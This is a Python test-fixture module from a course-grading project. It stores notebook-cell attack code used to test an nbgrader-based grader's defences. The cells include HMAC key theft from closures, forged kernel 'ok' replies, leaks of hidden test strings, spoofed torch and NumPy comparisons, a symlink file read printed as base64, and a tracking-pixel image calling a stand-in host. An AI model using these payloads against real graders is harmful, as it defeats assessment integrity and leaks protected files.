"""Code a determined student writes against the grader (issue 22), as cell sources.

Shared by the class simulation (tests/instructor/test_classroom.py, chapter 01 through nbgrader) and
tests/grading/test_forgery.py (small notebooks through coursetools.grading.execute). Each constant is the
code of one cell a student adds or puts in an answer cell; none imports the course's tools.
Issue 22 measured each of the first six on the grader before its fixes (blank answers
scored 18/18 with no flag through the first three).
"""

from __future__ import annotations

# -- 1. The checker's HMAC key, read from its closure (found through sys.modules, no gc); the
# check replaced by one that signs every nonce; an AST transformer wraps every later cell in
# try/except, so a failing test reports "ok". Written against the guard of issue 13 (a
# namespace in sys.modules); CLOSURE_KEY_NOW is the same attack adapted to the guard of issue 22.
CLOSURE_KEY = '''
import ast, hashlib, hmac, sys, types
_name = next(n for n in list(sys.modules) if n.startswith("_grader_guard"))
_real = sys.modules[_name]
_key = next(c.cell_contents for c in _real.verify.__closure__
            if isinstance(c.cell_contents, bytes) and len(c.cell_contents) == 32)
def _sign(*args):
    return "grader-token:" + hmac.new(_key, args[-1].encode(), hashlib.sha256).hexdigest()
sys.modules[_name] = types.SimpleNamespace(verify=_sign, before_locked=_real.before_locked,
                                           after_locked=_real.after_locked)
class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):  # only the grader's test cells (they call exec)
        if not any(isinstance(n, ast.Name) and n.id == "exec" for n in ast.walk(node)):
            return node
        handler = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(_Swallow())
'''

# The same, against a guard found among object's subclasses (no sys.modules entry): the key
# from a closure, the check and the test runner replaced. Code in the kernel that gets hold of
# the checker's key can forge any check; what stops this one is the static review's flag.
CLOSURE_KEY_NOW = '''
import hashlib, hmac
def _closure_values(fn):
    return [c.cell_contents for c in (getattr(fn, "__closure__", None) or ())]
for _cls in object.__subclasses__():
    _own = vars(_cls)
    if "verify" in _own and "run" in _own:
        _verify = _own["verify"].__func__
        _key = next(v for v in _closure_values(_verify) if isinstance(v, bytes) and len(v) == 32)
        _cls.verify = staticmethod(lambda *args: "grader-token:" + hmac.new(
            _key, args[-1].encode(), hashlib.sha256).hexdigest())
        _cls.run = staticmethod(lambda *args: None)
'''

# -- 2. Answer functions (in every answer cell) that, when a test calls them, give the kernel's session an instance
# attribute `send` that drops the error and rewrites the execute_reply to "ok", and then
# removes itself: the check after the test sees nothing.
SESSION_SEND = '''
def _forge_pass(*args, **kwargs):
    session = get_ipython().kernel.session
    if "send" in vars(session):
        return None
    real_send = session.send
    def send(stream, msg_or_type, content=None, parent=None, *rest, **kw):
        kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type["header"]["msg_type"]
        if kind == "error" or (kind == "stream" and (content or {}).get("name") == "stderr"):
            return None
        if kind == "execute_reply":
            content = {"status": "ok", "execution_count": (content or {}).get("execution_count"),
                       "user_expressions": {}, "payload": []}
            del session.send
        return real_send(stream, msg_or_type, content, parent, *rest, **kw)
    session.send = send
    return None
pick_device = common_device = seeded_randn = build_on = _forge_pass
'''

# -- 3. importlib.util.MAGIC_NUMBER replaced by an object whose `!=` (which the compiled test
# cells of issue 13 evaluated first) sends a forged "ok" reply and an idle status: the
# notebook client takes the cell as done and drops the real error that follows as stale.
MAGIC_NUMBER = '''
import importlib.util
def _forge_reply():
    kernel = get_ipython().kernel
    parent = kernel.get_parent("shell")
    ident = kernel._get_shell_context_var(kernel._shell_parent_ident)
    kernel.session.send(kernel.shell_stream, "execute_reply",
                        {"status": "ok", "execution_count": kernel.execution_count,
                         "user_expressions": {}, "payload": []}, parent, ident=ident)
    kernel._publish_status("idle", "shell", parent)
class _Magic(bytes):
    __module__ = "importlib._bootstrap_external"  # the check of issue 13 skipped non-__main__ classes
    def __ne__(self, other):
        _forge_reply()
        return False
    __hash__ = bytes.__hash__
importlib.util.MAGIC_NUMBER = _Magic(importlib.util.MAGIC_NUMBER)
'''

# The forged reply alone, sent by the answer functions while a test runs: nothing is patched.
FORGED_REPLY = MAGIC_NUMBER.split("class _Magic")[0] + '''
def _forge_pass(*args, **kwargs):
    _forge_reply()
pick_device = common_device = seeded_randn = build_on = _forge_pass
'''

# -- 4. An answer function keeps the code object of the hidden test that calls it; a later
# cell prints that code's string constants (the hidden tests' messages) into the feedback.
FRAME_LEAK_WRAPPER = '''
_honest_pick_device = pick_device
_test_code = []
def pick_device(*args, **kwargs):
    import sys
    _test_code.append(sys._getframe(1).f_code)
    return _honest_pick_device(*args, **kwargs)
'''
FRAME_LEAK_PRINT = '''
def _strings(code, found):
    for const in code.co_consts:
        if isinstance(const, str):
            found.add(const)
        elif hasattr(const, "co_consts"):
            _strings(const, found)
    return found
_found = set()
for _code in _test_code:
    _strings(_code, _found)
for _text in sorted(_found):
    print(_text)
'''

# -- 5. The type-faking `str` subclass of issue 13 (a string posing as a torch.device), with
# __module__ = "torch": the check of issue 13 skipped classes not defined in __main__.
STR_DEVICE_AS_TORCH = '''
class _Device(str):
    __module__ = "torch"
    __class__ = property(lambda self: torch.device)  # isinstance(x, torch.device) is True
    type = "cpu"
    index = None
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
def pick_device(name=None):
    return _Device("cpu")
'''

# -- 6. An error message of 24 MiB: error outputs were not counted against the output caps.
HUGE_ERROR_MIB = 24
HUGE_ERROR = f'raise ValueError("E" * {HUGE_ERROR_MIB} * 2**20)'

# -- 7. (read in the code) The guard called `get_ipython` from the user namespace. A student's
# `get_ipython` runs inside every check: here it takes away the session patch of attack 2
# (left in place this time) before the check looks, and the next answer call puts it back.
USER_GET_IPYTHON = '''
from IPython import get_ipython as _real_get_ipython
def _install():
    session = _real_get_ipython().kernel.session
    if "send" in vars(session):
        return
    real_send = type(session).send.__get__(session)
    def send(stream, msg_or_type, content=None, parent=None, *rest, **kw):
        kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type["header"]["msg_type"]
        if kind == "error" or (kind == "stream" and (content or {}).get("name") == "stderr"):
            return None
        if kind == "execute_reply":
            content = {"status": "ok", "execution_count": (content or {}).get("execution_count"),
                       "user_expressions": {}, "payload": []}
        return real_send(stream, msg_or_type, content, parent, *rest, **kw)
    session.send = send
def get_ipython():
    shell = _real_get_ipython()
    vars(shell.kernel.session).pop("send", None)  # the checker is looking: hide
    return shell
def _forge_pass(*args, **kwargs):
    _install()
pick_device = common_device = seeded_randn = build_on = _forge_pass
'''

# -- 8. (read in the code) Neither non-callable attributes of the machinery nor module globals
# were compared: the display hook's `session` (which sends every error) is replaced by one that
# drops errors, and ipykernel.kernelbase's `json_clean` (which every reply goes through) turns
# an error reply into "ok".
NON_CALLABLE = '''
import ipykernel.kernelbase as _kernelbase
_real_clean = _kernelbase.json_clean
def _clean(content):
    content = _real_clean(content)
    if isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count"),
                   "user_expressions": {}, "payload": []}
    return content
_kernelbase.json_clean = _clean
_real_session = get_ipython().displayhook.session
class _Quiet(type(_real_session)):  # the trait accepts only a Session
    def send(self, stream, msg_or_type, *args, **kwargs):
        if msg_or_type == "error":
            return None
        return super().send(stream, msg_or_type, *args, **kwargs)
_quiet = object.__new__(_Quiet)
_quiet.__dict__.update(vars(_real_session))
get_ipython().displayhook.session = _quiet
'''

# -- 9. (read in the code) A name the checks look up in the user namespace, shadowed: the
# check cells called `globals()`, so a student's `globals` hands them a copy taken before
# the grading helper `expect_error` was replaced by one that always "finds" the error.
SHADOW_GLOBALS = '''
_before = dict(globals())
def expect_error(kind, fn, hint=""):
    try:
        fn()
    except Exception as exc:
        return str(exc)
    return "gpu cuda cuda:2 mps mps:1 xpu labels cpu meta targets"
def globals():
    return _before
'''

# -- 10. (read in the code) A symlink in the submission folder: nbgrader and the grader copied
# the file it points to, as root, where the kernel can read it. The cell prints it as base64
# (redaction cannot read base64).
SYMLINK_NAME = "notes.txt"
SYMLINK_READ = f'''
import base64, os
print("SYMLINK", os.path.exists({SYMLINK_NAME!r}))
if os.path.exists({SYMLINK_NAME!r}):
    print(base64.b64encode(open({SYMLINK_NAME!r}, "rb").read()).decode())
'''


# -- Issue 32 (round 3): written against the in-kernel guard of issue 22, which none of them
# tripped. Under remote grading each must score only what its answers earn, and leak nothing.

# 8. Blank answers; closures of everything course-made in the kernel read with the standard
# library's inspect helpers (plain literal names), an AST transformer that wraps each later cell
# in try/except, and every function found that takes a `verify`/`run`-like role replaced by one
# that says yes. The answer `f` returns what the tests would call "passed" if the checks ran here.
INSPECT_CLOSURES = '''
import ast, inspect, sys
_found = []
for _name, _module in list(sys.modules.items()):
    if _name.startswith("__course") or _name.startswith("<grader"):
        for _attr, _value in inspect.getmembers(_module):
            if inspect.ismethod(_value) or inspect.isfunction(_value):
                _found.append((_attr, inspect.getclosurevars(_value)))
class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        wrapped = ast.Try(body=node.body, handlers=[ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])],
                          orelse=[], finalbody=[])
        node.body = [wrapped]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(_Swallow())
print("found", len(_found))
'''

# 9. The same search through string.Formatter's field lookup (no attribute names in the code).
FORMATTER_FIELDS = '''
import string, sys
_fmt = string.Formatter()
_agent = sys.modules.get("__course_agent__")
_seen = []
if _agent is not None:
    _serve, _ = _fmt.get_field("0.serve", (_agent,), {})
    _cells, _ = _fmt.get_field("0.__self__.refs", (_serve,), {})
    _seen.append(len(_cells))
print("seen", _seen)
'''

# 10. A property added to torch.Tensor through an alias, which makes every tensor report the
# device the tests expect (`meta`), whatever it is on.
TENSOR_PROPERTY_ALIAS = '''
import torch as _t
_T = _t.Tensor
_real_device = _T.device
setattr(_T, "is_meta", property(lambda self: True))
'''

# 11. The spoofing device class of round 1, built with type() and functools.partial (no class
# body): claims to be torch.device, equals every device, prints as the one expected.
SPOOF_DEVICE = '''
import functools, operator
_Spoof = type("device", (), {"__eq__": lambda self, other: True, "__ne__": lambda self, other: False,
                             "__hash__": lambda self: 0, "__repr__": lambda self: "device(type='cuda', index=0)",
                             "__class__": property(functools.partial(operator.getitem, [torch.device], 0)),
                             "type": "cuda", "index": 0})
def f():
    return _Spoof()
'''

# 12. The calling test's frame taken from an exception's __traceback__, its constants read with
# inspect.getmembers, and printed by a later cell in base64 and hex.
TRACEBACK_FRAMES = '''
import base64, inspect
_stolen = []
def f():
    try:
        raise RuntimeError
    except RuntimeError as exc:
        frame = exc.__traceback__.tb_frame
        while frame is not None:
            for _name, value in inspect.getmembers(frame.f_code):
                if isinstance(value, tuple):
                    _stolen.extend(str(v) for v in value if isinstance(v, str))
            _stolen.extend(str(v) for v in frame.f_locals.values() if isinstance(v, str))
            frame = frame.f_back
    return 3
'''
TRACEBACK_PRINT = '''
import base64
_text = "\\n".join(_stolen)
print(base64.b64encode(_text.encode()).decode())
print(_text.encode().hex())
print(_text)
'''

# 13. Strings as HTML character references with zero-width spaces, drawn in a PNG, and a
# remote image in a Markdown output (a tracking pixel whoever opens the feedback loads).
HTML_ENTITIES = '''
from IPython.display import HTML, Markdown, display
_secret = "secret_hidden_message"
display(HTML("".join(f"&#{ord(c)};&#8203;" for c in _secret)))
display(Markdown("![pixel](https://tracker.example.org/p.gif?who=me)"))
display(HTML('<img src="https://tracker.example.org/q.gif"><img src="data:image/png;base64,iVBORw0KGgo=">'))
'''


# -- Round 4: attacks on what the grader expects and observes. Each is an answer cell; the
# honest part of each answer is wrong (CPU where the test wants CUDA or meta, zeros where it wants
# ones), so a pass is a forgery.

# The kernel's torch.device replaced through a function parameter (no `torch.x = ...` for the
# review to see): a test whose expected torch.device("cuda", 0) is built by the kernel's torch
# gets "cpu", and the answer's cpu passes.
REPLACED_DEVICE_CLASS = '''
import torch
_real_device = torch.device
class _Device:
    def __new__(cls, kind, index=None):
        if str(kind).split(":")[0] in ("cuda", "mps"):
            return _real_device("cpu")
        return _real_device(kind) if index is None else _real_device(kind, index)
def _use(ns, f):
    ns.device = f
_use(torch, _Device)
def pick_device():
    return _real_device("cpu")
'''

# A tensor subclass (made with as_subclass) whose __torch_function__ says True to every
# comparison: torch.allclose / torch.equal run in the kernel answer True for zeros against ones.
AGREEING_TENSOR = '''
import torch
class _Agreeing(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def make():
    return torch.zeros(3).as_subclass(_Agreeing)
'''

# The same for NumPy: an ndarray subclass whose __array_function__ says True to array_equal and
# allclose.
AGREEING_ARRAY = '''
import numpy as np
class _Agreeing(np.ndarray):
    def __array_function__(self, func, types, args, kwargs):
        if func in (np.array_equal, np.allclose):
            return True
        return super().__array_function__(func, types, args, kwargs)
def to_numpy(t):
    return np.zeros(3).view(_Agreeing)
'''

# build_on builds on the CPU, then swaps in its own Parameter and Tensor subclasses whose
# is_meta property says True; nothing of torch is patched.
META_SUBCLASSES = '''
import torch
class _P(torch.nn.Parameter):
    @property
    def is_meta(self):
        return True
class _T(torch.Tensor):
    @property
    def is_meta(self):
        return True
def build_on():
    layer = torch.nn.Linear(2, 2)
    for name, p in list(layer.named_parameters()):
        setattr(layer, name, _P(p.detach()))
    layer.register_buffer("scale", torch.ones(2).as_subclass(_T))
    return layer
'''

# The property patch, written with unittest.mock (the plain assignment is flagged by the review),
# and through an alias found in a list.
META_MOCK_PATCH = '''
import torch
from unittest import mock
mock.patch.object(torch.Tensor, "is_meta", property(lambda self: True)).start()
def build_on():
    return torch.nn.Linear(2, 2)
'''
META_LIST_ALIAS = '''
import torch
_T = [torch.Tensor][0]
_T.is_meta = property(lambda self: True)
def build_on():
    return torch.nn.Linear(2, 2)
'''

# Round 4: the agent found by its name and its encoder replaced so that the wrong
# answer's 3 reaches the grader as the 2 the test expects.
AGENT_BY_NAME = '''
import pydoc
_a = pydoc.locate("__course_agent__")
if _a is not None:
    _agent = _a.serve.__self__
    _enc = _agent.enc
    _agent.enc = lambda value, depth=0: 2 if value == 3 else _enc(value, depth)
def f():
    return 3
'''

# A test's expected tensor built by a factory the answer rebound (through a parameter, which no
# spelling check sees): torch.ones makes zeros, so the wrong answer's zeros equal it.
REBOUND_FACTORY = '''
import torch
_zeros = torch.zeros
def _use(ns, name, f):
    setattr(ns, name, f)
_use(torch, "ones", lambda *a, **k: _zeros(*a, **k))
def make():
    return torch.zeros(3)
'''

# The library's tensor class rebound to `object`: every value is then "a tensor" to a test that
# asks isinstance(x, torch.Tensor).
REBOUND_TENSOR_CLASS = '''
import torch
def _use(ns, f):
    ns.Tensor = f
_use(torch, object)
def make():
    return [1.0, 1.0, 1.0]
'''
